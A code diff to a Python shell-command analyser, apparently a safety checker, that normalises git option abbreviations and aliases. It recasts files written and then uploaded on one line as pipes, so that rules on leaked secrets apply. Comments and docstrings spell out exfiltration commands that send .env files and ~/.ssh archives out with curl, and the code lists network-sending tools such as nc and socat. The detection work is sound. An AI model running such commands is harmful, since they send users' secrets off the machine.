@@ -79,8 +79,11 @@ class _Draft:
     piped: bool = False  # stdin comes from an earlier pipeline stage
 
     def freeze(self) -> SimpleCommand:
+        argv = self.argv
+        if argv and argv[0] == "git" and any(a.startswith("--") for a in argv):
+            argv = _expand_git_abbrev(argv)
         return SimpleCommand(
-            argv=tuple(self.argv), raw=self.raw, sudo=self.sudo, sudo_user=self.sudo_user,
+            argv=tuple(argv), raw=self.raw, sudo=self.sudo, sudo_user=self.sudo_user,
             wrappers=self.wrappers, redirects=tuple(self.redirects),
             upstream=tuple(dict.fromkeys(self.upstream)), downstream=tuple(dict.fromkeys(self.downstream)),
             via=self.via, depth=self.depth, dynamic=self.dynamic, program_path=self.program_path,
@@ -581,7 +584,11 @@ class _Walker:
         vals, dyn = self.herestring(r, via, depth, sd)
         target.redirects.append(Redirect("<<<", ""))
         # `bash <<< $(curl …)`: what those commands print is this program's stdin
-        target.upstream.extend(d.argv[0] for d in self.drafts[before:] if d.argv and d is not target)
+        feeders = [d for d in self.drafts[before:] if d.argv and d is not target]
+        target.upstream.extend(d.argv[0] for d in feeders)
+        if target.argv:
+            for d in feeders:
+                d.downstream.append(target.argv[0])
         if not dyn:
             target.stdin_text = vals + "\n"
             self.feed(target, target.stdin_text, depth)
@@ -970,6 +977,30 @@ class _Walker:
                     # `xargs -a cmds.txt -I{} sh -c {}`: each line of the file runs, as `sh cmds.txt` would
                     self.nested_shell(f"sh {_sh_quote(listed)}", via, depth, "xargs -a", inherit=d)
         return [d]
+
+    def hand_offs(self) -> None:
+        """A file written on the line and then sent away on the same line is judged as the pipe it
+        amounts to: `cp .env /tmp/n && curl -d @/tmp/n URL` as `cat .env | curl -d @- URL`, `env >
+        /tmp/e; curl -T /tmp/e URL` as `env | curl -T - URL`, `tar czf /tmp/k.tgz ~/.ssh && curl -T
+        /tmp/k.tgz URL` as `tar c ~/.ssh | curl -T - URL` — so the rules on secrets piped into a
+        network client see them. Paths are compared as written."""
+        from adr.shell.uploads import uploaded_files
+        made: dict[str, str] = {}
+        for d in list(self.drafts)[:256]:
+            if not d.argv:
+                continue
+            prog, args = d.argv[0], d.argv[1:]
+            sent = list(uploaded_files(prog, args, d.stdin_text))
+            if prog in _STDIN_SENDERS:
+                sent += [r.target for r in d.redirects if r.op == "<" and r.target]
+            for f in dict.fromkeys(sent):
+                key = _plain_path(f)
+                if key in made and len(self.layers) < 64:
+                    sender = [prog] + [_as_stdin(a, f) for a in args]
+                    line = made[key] + " | " + " ".join(_sh_quote(a) for a in sender)
+                    self.nested_shell(line, d.via, 0, "a file written and sent on the same line")
+            for target, producer in _files_made(prog, args, d.redirects):
+                made[_plain_path(target)] = producer
 
     def nested_shell(self, text: str, via: str, depth: int, label: str, inherit: _Draft | None = None,
                      upstream: tuple[str, ...] = (), params: "list[str] | None" = None) -> list[_Draft]:
@@ -1621,17 +1652,104 @@ def _git_commands(args: "list[str] | tuple[str, ...]") -> list[str]:
     return [c for c in out if c.strip()][:8]
 
 
+def _git_alias_definition(args: "list[str] | tuple[str, ...]") -> "str | None":
+    """`git config [--global|--local|--file F] alias.NAME 'VALUE'`: the git command line the alias will
+    run (judged when it is defined, since every later `git NAME` runs it); None for a shell alias
+    (`!…`, judged as the command it is elsewhere), a read, an unset."""
+    argv = ["git"] + list(args)
+    sub, _ = _git_subcommand(argv)
+    if sub is None or argv[sub] != "config":
+        return None
+    rest = argv[sub + 1:]
+    pos = _positionals_after_options(rest, {"--file", "-f", "--blob", "--type", "--default", "--comment"})
+    if any(o in rest for o in ("--get", "--get-all", "--unset", "--unset-all", "--list", "-l", "--remove-section",
+                               "--rename-section", "--get-regexp", "--show-origin")):
+        return None
+    if pos[:1] == ["set"]:
+        pos = pos[1:]  # git ≥ 2.46: `git config set KEY VALUE`
+    if len(pos) >= 2 and pos[0][:6].lower() == "alias." and not pos[1].lstrip().startswith("!"):
+        return "git " + pos[1]
+    return None
+
+
+# git accepts any unambiguous prefix of a long option (`git reset --har` is --hard): the options that
+# decide what a command destroys, skips or forces, spelled out so that every rule sees one spelling
+_GIT_LONG = {
+    "reset": ("--hard", "--merge", "--keep", "--soft", "--mixed", "--quiet", "--patch", "--pathspec-from-file",
+              "--no-refresh", "--recurse-submodules"),
+    "clean": ("--force", "--dry-run", "--interactive", "--quiet", "--exclude"),
+    "checkout": ("--force", "--discard-changes", "--ours", "--theirs", "--merge", "--orphan", "--detach", "--quiet",
+                 "--track", "--no-track", "--patch", "--pathspec-from-file", "--overlay", "--no-overlay"),
+    "switch": ("--discard-changes", "--force", "--force-create", "--create", "--orphan", "--detach", "--merge",
+               "--quiet", "--track", "--no-track", "--guess", "--no-guess"),
+    "restore": ("--staged", "--worktree", "--source", "--overlay", "--no-overlay", "--patch", "--ours", "--theirs",
+                "--merge", "--quiet", "--pathspec-from-file", "--ignore-unmerged"),
+    "push": ("--force", "--force-with-lease", "--force-if-includes", "--mirror", "--delete", "--prune", "--all",
+             "--tags", "--no-verify", "--verify", "--dry-run", "--set-upstream", "--follow-tags", "--porcelain",
+             "--progress", "--quiet", "--verbose", "--atomic", "--push-option", "--receive-pack", "--exec",
+             "--repo", "--no-force-with-lease", "--thin", "--no-thin", "--signed", "--recurse-submodules"),
+    "branch": ("--delete", "--force", "--move", "--copy", "--set-upstream-to", "--unset-upstream", "--list",
+               "--all", "--remotes", "--verbose", "--quiet", "--track", "--no-track", "--contains", "--merged",
+               "--no-merged", "--show-current", "--sort", "--format", "--color", "--column", "--edit-description"),
+    "worktree": ("--force", "--detach", "--checkout", "--lock", "--reason", "--quiet", "--track", "--guess-remote",
+                 "--orphan", "--expire", "--dry-run", "--verbose", "--porcelain"),
+    "gc": ("--prune", "--no-prune", "--aggressive", "--auto", "--quiet", "--force", "--keep-largest-pack", "--cruft"),
+    "commit": ("--no-verify", "--verify", "--amend", "--all", "--message", "--file", "--quiet", "--signoff",
+               "--no-edit", "--edit", "--allow-empty", "--patch", "--reuse-message", "--fixup", "--squash",
+               "--author", "--date", "--dry-run", "--interactive", "--include", "--only", "--untracked-files"),
+    "tag": ("--delete", "--force", "--annotate", "--message", "--file", "--sign", "--list", "--verify"),
+    "fetch": ("--prune", "--prune-tags", "--force", "--all", "--tags", "--dry-run", "--depth", "--quiet",
+              "--upload-pack", "--unshallow", "--update-head-ok"),
+    "merge": ("--no-verify", "--verify", "--abort", "--continue", "--squash", "--no-ff", "--ff-only", "--strategy"),
+    "stash": (),
+}
+
+
+def _expand_git_abbrev(argv: "list[str]") -> "list[str]":
+    """argv of `git …` with abbreviated long options of its subcommand spelled in full. An abbreviation
+    that fits several options is left alone (git refuses it too), except among the --force family,
+    which is what git would be asked for."""
+    sub, _ = _git_subcommand(argv)
+    if sub is None:
+        return argv
+    opts = _GIT_LONG.get(argv[sub])
+    if not opts:
+        return argv
+    out = list(argv)
+    for k in range(sub + 1, len(argv)):
+        a = argv[k]
+        if a == "--":
+            break
+        if not a.startswith("--") or len(a) < 4:
+            continue
+        name, eq, val = a.partition("=")
+        if name in opts:
+            continue
+        hits = [o for o in opts if o.startswith(name)]
+        if len(hits) > 1 and all(h.startswith("--force") for h in hits):
+            hits = ["--force"]
+        if len(hits) == 1:
+            out[k] = hits[0] + eq + val
+    return out
+
+
 def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str]:
     """Option values a program runs as commands (git -c core.pager=…, tar --checkpoint-action=exec=…,
     rsync -e …, ssh -o ProxyCommand=…, vim -c ':!…', watch 'cmd', script -c 'cmd')."""
     out: list[str] = []
     n = len(args)
+    if prog == "git":
+        alias = _git_alias_definition(args)
+        if alias:
+            out.append(alias)
     for i, a in enumerate(args):
         nxt = args[i + 1] if i + 1 < n else ""
         if prog == "git" and a == "-c" and nxt:
             m = _GIT_EXEC_KEYS.fullmatch(nxt)
-            if m and m.group(1) and not m.group(1).lower() in ("true", "false", "less", "cat", "more", "always",
-                                                               "never", "user"):
+            if m and m.group(1) and nxt[:6].lower() == "alias." and not m.group(1).startswith("!"):
+                out.append("git " + m.group(1))  # `-c alias.x='push -f' x`: an alias is a git command line
+            elif m and m.group(1) and not m.group(1).lower() in ("true", "false", "less", "cat", "more", "always",
+                                                                 "never", "user"):
                 out.append(m.group(1).lstrip("!"))
         elif prog in ("tar", "gtar", "bsdtar"):
             for pre in ("--checkpoint-action=exec=", "--to-command=", "--use-compress-program=", "--rsh-command=",
@@ -2176,6 +2294,8 @@ def parse(text: str, charge: "Callable[[int], bool]" = _no_charge) -> ParsedShel
         text = text.replace("\x00", " ")
     try:
         w.layer(text, "", 0)
+        if len(w.drafts) > 1 and not w.stopped:
+            w.hand_offs()
     except RecursionError:
         w.issue("too-deep", "nesting too deep to follow")
     if w.stopped or len(text) > MAX_SOURCE or any(i.kind == "too-deep" for i in w.issues):
@@ -2197,7 +2317,7 @@ def _find_exec_argvs(sub: "list[str]", find_args: "list[str]") -> "list[list[str
     tests spare) is effects.find_deletes' job."""
     run = sub[1:] if sub[0].rsplit("/", 1)[-1] in ("sudo", "doas") and len(sub) > 1 else sub
     prog = run[0].rsplit("/", 1)[-1]
-    if not any("{}" in a for a in sub) or not _changes_its_operands(prog, run[1:]):
+    if not any("{}" in a for a in sub) or not (_changes_its_operands(prog, run[1:]) or _sends_its_operands(prog, run[1:])):
         return [sub]  # reading what find hands it (grep, file, cp's sources) is judged as written
     reach = effects.find_exec_reach(find_args)[:4]
     return [[a.replace("{}", r) for a in sub] for r in reach] or [sub]
@@ -2291,6 +2411,73 @@ def _printed_paths(d: "_Draft") -> "list[str] | None":
 # programs that change the files they are given in place (their metadata, content or name)
 _OPERAND_CHANGERS = frozenset({"chmod", "chown", "chgrp", "touch", "truncate", "setfacl", "chattr", "rename", "mv",
                                "gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "compress", "ed", "ex"})
+
+
+# programs that send what they read on stdin over the network (a `< F` redirect is F sent)
+_STDIN_SENDERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "curl", "wget", "http", "https", "xh",
+                            "ssh", "mail", "mailx", "sendmail", "mutt", "websocat", "gh", "aws", "gsutil", "rclone"})
+_HANDOFF_COPIERS = _COPIERS | {"dd"}  # (dd: if=SRC of=DST)
+_ARCHIVERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "rar"})
+
+
+def _files_made(prog: str, args: "list[str]", redirects: "list[Redirect]") -> "list[tuple[str, str]]":
+    """(file, a command that prints what goes into it) for the files this command writes whole: its
+    stdout redirected to a file, a copy's destination, an archive being created."""
+    out: list[tuple[str, str]] = []
+    me = " ".join(_sh_quote(a) for a in [prog] + list(args))
+    for r in redirects:
+        if r.op in (">", ">>", ">|", "&>", "&>>") and r.target and not r.target.startswith("/dev/"):
+            out.append((r.target, me))
+    pos = [a for a in args if not a.startswith("-")]
+    if prog in _HANDOFF_COPIERS and prog != "dd" and len(pos) >= 2:
+        out.append((pos[-1], "cat " + " ".join(_sh_quote(a) for a in pos[:-1])))
+    elif prog == "dd":
+        src = next((a[3:] for a in args if a.startswith("if=")), "")
+        dst = next((a[3:] for a in args if a.startswith("of=")), "")
+        if src and dst:
+            out.append((dst, "cat " + _sh_quote(src)))
+    elif prog in _ARCHIVERS:
+        archive, srcs = "", []
+        if prog in ("tar", "gtar", "bsdtar"):
+            for k, a in enumerate(args):
+                if a.startswith("--file="):
+                    archive = a.split("=", 1)[1]
+                elif (a == "--file" or (a.startswith("-") and not a.startswith("--") and a.endswith("f"))
+                      or (k == 0 and not a.startswith("-") and a.endswith("f") and "c" in a)) and k + 1 < len(args):
+                    archive = args[k + 1]
+            srcs = [a for a in pos if a != archive and not (pos and a == pos[0] and not args[0].startswith("-")
+                                                            and "c" in a and a.endswith("f"))]
+        elif pos[:1] in (["a"], ["u"]) and prog in ("7z", "7za", "rar") and len(pos) >= 3:
+            archive, srcs = pos[1], pos[2:]
+        elif prog == "zip" and len(pos) >= 2:
+            archive, srcs = pos[0], pos[1:]
+        # (a build folder archived and uploaded is a release; the tree itself, the home, a dot-file or
+        # -folder, anything outside the project is what the rules on archives sent away are about)
+        if archive and archive != "-" and any(_wide_source(a) for a in srcs):
+            out.append((archive, "tar c " + " ".join(_sh_quote(a) for a in srcs)))
+    return out[:8]
+
+
+def _wide_source(a: str) -> bool:
+    a = a.rstrip("/") or "/"
+    return a in (".", "..", "*") or a.startswith(("~", "/", "$", "../")) or any(
+        seg.startswith(".") and seg not in (".", "..") for seg in a.split("/"))
+
+
+def _as_stdin(arg: str, path: str) -> str:
+    """An uploader's argument naming `path`, naming stdin instead (`@/tmp/x` → `@-`, `-T /tmp/x` → `-`)."""
+    if arg == path:
+        return "-"
+    for mark in ("@", "<", "="):
+        if arg.endswith(mark + path):
+            return arg[: len(arg) - len(path)] + "-"
+    return arg
+
+
+def _sends_its_operands(prog: str, args: "list[str]") -> bool:
+    """`find . -name .env -exec curl -T {} URL \\;`: the files find hands it leave the machine."""
+    from adr.shell.uploads import uploaded_files
+    return any("{}" in u for u in uploaded_files(prog, [a for a in args]))
 
 
 def _changes_its_operands(prog: str, args: "list[str]") -> bool:
